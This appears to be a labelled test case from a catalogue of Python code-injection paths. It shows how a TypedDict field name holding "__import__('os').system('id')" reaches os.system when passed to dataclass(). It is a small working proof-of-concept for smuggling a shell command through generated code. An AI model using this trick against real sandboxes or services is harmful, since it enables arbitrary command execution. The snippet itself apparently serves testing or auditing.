# class: string-address
# mechanism: names of fields that are computed
# how: a data class of a typed dict
# reaches: event os.system
from dataclasses import dataclass
from typing import TypedDict
T = TypedDict("T", {"__class__, __import__('os').system('id')": int})
dataclass(T, init=False, eq=False)
print(T.__repr__(3))
